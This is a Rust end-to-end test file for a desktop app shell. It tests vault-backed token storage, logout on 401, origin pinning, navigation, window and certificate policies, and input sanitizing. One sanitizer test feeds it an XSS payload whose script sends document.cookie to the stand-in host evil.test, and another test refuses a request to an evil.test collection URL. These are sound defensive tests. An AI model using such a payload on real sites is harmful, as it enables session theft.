//! End-to-end tests for the trust boundary.
//!
//! Tests the full flow: UI → API client → Bridge → Vault, plus the isolation
//! policies the hosting runtime applies.

use std::sync::Arc;

use url::Url;

use sge_shell_lib::bridge::{BridgeReply, BridgeRequest, AUTH_TOKEN_ACCOUNT};
use sge_shell_lib::config::{AppConfig, ShellSettings};
use sge_shell_lib::mocks::{InMemoryVault, RecordedTransport, RecordingNavigator};
use sge_shell_lib::security::{
    enforce_navigation, enforce_window_open, CertificateDecision, CertificateErrorEvent,
    CertificatePolicy, NavigationDecision, WindowOpenDecision, WindowOpenPolicy,
};
use sge_shell_lib::traits::{ApiError, ApiResponse, Navigator, SecretBridge};
use sge_shell_lib::{sanitize_input, ApiClient, AppState};

/// Build test components
fn setup(vault: InMemoryVault) -> AppState {
    let config = Arc::new(AppConfig::open_in_memory().unwrap());
    let settings = ShellSettings::from_sources(&config, |_| None).unwrap();
    AppState::with_vault(config, settings, Arc::new(vault)).unwrap()
}

fn client(state: &AppState, transport: &RecordedTransport, nav: &RecordingNavigator) -> ApiClient {
    state
        .api_client(Arc::new(transport.clone()), Arc::new(nav.clone()))
        .unwrap()
}

#[tokio::test]
async fn test_login_then_authenticated_call() {
    let vault = InMemoryVault::new();
    let state = setup(vault.clone());
    let nav = RecordingNavigator::new();

    // 1. Login stores the token through the bridge
    state.bridge.set_secret(AUTH_TOKEN_ACCOUNT, "abc123").await;
    assert_eq!(vault.peek("auth-token"), Some("abc123".to_string()));

    // 2. A subsequent call carries the bearer header
    let transport = RecordedTransport::responding(200, Some(r#"{"id":1}"#));
    let api = client(&state, &transport, &nav);
    api.get("/students").await.unwrap();

    let requests = transport.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].header("Authorization"), Some("Bearer abc123"));
}

#[tokio::test]
async fn test_unauthorized_response_logs_out() {
    let vault = InMemoryVault::with_entries(vec![("auth-token", "abc123")]);
    let state = setup(vault.clone());
    let nav = RecordingNavigator::new();
    let transport = RecordedTransport::unauthorized();
    let api = client(&state, &transport, &nav);

    let result = api.get("/students").await;

    assert_eq!(result.unwrap_err(), ApiError::AuthenticationExpired);
    let read = state.bridge.get_secret(AUTH_TOKEN_ACCOUNT).await;
    assert!(read.is_success());
    assert!(read.value().is_none(), "token must be absent after a 401");
    assert_eq!(vault.delete_calls(), 1);
    assert_eq!(nav.current_route(), "/login");
}

#[tokio::test]
async fn test_concurrent_unauthorized_responses() {
    let vault = InMemoryVault::with_entries(vec![("auth-token", "abc123")]);
    let state = setup(vault.clone());
    let nav = RecordingNavigator::new();
    let transport = RecordedTransport::unauthorized();
    let api = client(&state, &transport, &nav);

    let results = futures::future::join_all((0..4).map(|_| api.get("/grades"))).await;

    assert!(results.iter().all(|r| r == &Err(ApiError::AuthenticationExpired)));
    // Each 401 deletes independently; deleting an absent token is harmless
    assert_eq!(vault.delete_calls(), 4);
    assert!(vault.keys().is_empty());
    assert_eq!(nav.current_route(), "/login");
    assert_eq!(nav.navigation_count(), 4);
}

#[tokio::test]
async fn test_token_stays_with_backend_origin() {
    let vault = InMemoryVault::with_entries(vec![("auth-token", "abc123")]);
    let state = setup(vault);
    let nav = RecordingNavigator::new();
    let transport = RecordedTransport::new();
    let api = client(&state, &transport, &nav);

    let refused = api.get("https://evil.test/collect").await;
    assert!(matches!(refused, Err(ApiError::InvalidUrl(_))));
    assert_eq!(transport.call_count(), 0);

    api.get("/students").await.unwrap();
    let requests = transport.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].url, "http://localhost:8000/students");
    assert_eq!(requests[0].bearer_token(), Some("abc123"));
}

#[tokio::test]
async fn test_anonymous_health_check() {
    let state = setup(InMemoryVault::new());
    let nav = RecordingNavigator::new();
    let transport = RecordedTransport::custom(|req| {
        assert_eq!(req.url, "http://localhost:8000/health");
        Ok(ApiResponse {
            status: 200,
            body: Some(r#"{"status":"healthy","database":"connected"}"#.to_string()),
            duration_ms: 2,
        })
    });
    let api = client(&state, &transport, &nav);

    let payload = api.check_health().await.unwrap();

    assert_eq!(payload["database"], "connected");
    assert_eq!(transport.requests()[0].bearer_token(), None);
    assert_eq!(nav.navigation_count(), 0);
}

#[tokio::test]
async fn test_login_flow_stores_token_for_later_calls() {
    let vault = InMemoryVault::new();
    let state = setup(vault.clone());
    let nav = RecordingNavigator::starting_at("/login");
    let transport = RecordedTransport::custom(|req| {
        let body = if req.url.ends_with("/auth/login") {
            r#"{"access_token":"jwt-1","token_type":"bearer","expires_in":28800}"#
        } else {
            r#"{"ok":true}"#
        };
        Ok(ApiResponse { status: 200, body: Some(body.to_string()), duration_ms: 1 })
    });
    let api = client(&state, &transport, &nav);

    api.login("docente1", "Secreta123").await.unwrap();
    api.get("/students").await.unwrap();

    let requests = transport.requests();
    assert_eq!(requests[0].bearer_token(), None);
    assert_eq!(requests[1].bearer_token(), Some("jwt-1"));

    api.logout().await.unwrap();
    assert_eq!(vault.peek("auth-token"), None);
}

#[tokio::test]
async fn test_bridge_dispatch_via_wire_requests() {
    let state = setup(InMemoryVault::new());

    let set: BridgeRequest = serde_json::from_str(
        r#"{"channel":"vault:set","args":{"account":"auth-token","token":"abc123"}}"#,
    )
    .unwrap();
    let get: BridgeRequest =
        serde_json::from_str(r#"{"channel":"vault:get","args":{"account":"auth-token"}}"#).unwrap();

    assert!(state.bridge.dispatch(set).await.is_success());
    let reply = state.bridge.dispatch(get).await;

    let json = serde_json::to_value(&reply).unwrap();
    assert_eq!(json, serde_json::json!({"success": true, "value": "abc123"}));
    assert!(matches!(reply, BridgeReply::Secret(_)));
}

#[tokio::test]
async fn test_vault_failure_never_escapes_bridge() {
    let vault = InMemoryVault::new();
    vault.fail_with(sge_shell_lib::traits::VaultError::Backend("no keyring daemon".to_string()));
    let state = setup(vault);

    let reply = state
        .bridge
        .dispatch(BridgeRequest::DeleteSecret { account: "auth-token".to_string() })
        .await;

    let json = serde_json::to_value(&reply).unwrap();
    assert_eq!(json["success"], false);
    assert!(json.get("value").is_none());
    assert!(json["error"].as_str().unwrap().contains("no keyring daemon"));
}

#[test]
fn test_isolation_policies() {
    let state = setup(InMemoryVault::new());

    assert_eq!(state.navigation.decide("http://localhost:3000/login"), NavigationDecision::Allow);
    assert_eq!(state.navigation.decide("https://phishing.test/login"), NavigationDecision::Deny);
    assert_eq!(WindowOpenPolicy::decide("http://localhost:3000/"), WindowOpenDecision::Deny);

    let event = CertificateErrorEvent {
        url: "https://localhost:8000/".to_string(),
        error: "self-signed".to_string(),
    };
    assert_eq!(CertificatePolicy::decide(&event), CertificateDecision::Reject);

    assert_eq!(state.content_policy.directive("frame-ancestors"), Some("'none'"));
    assert_eq!(state.content_policy.directive("object-src"), Some("'none'"));
}

#[test]
fn test_host_cancels_disallowed_navigation() {
    let state = setup(InMemoryVault::new());

    let login = Url::parse("http://localhost:3000/login").unwrap();
    let phishing = Url::parse("https://phishing.test/login").unwrap();

    assert!(enforce_navigation(&state.navigation, &login));
    assert!(!enforce_navigation(&state.navigation, &phishing));
    assert!(!enforce_window_open(login.as_str()));
}

#[test]
fn test_sanitize_user_text() {
    let dirty = "<b>Juan</b><script>fetch('http://evil.test?c='+document.cookie)</script> Pérez";
    let clean = sanitize_input(dirty);

    assert_eq!(clean, "Juan Pérez");
    assert_eq!(sanitize_input(&clean), clean);
}
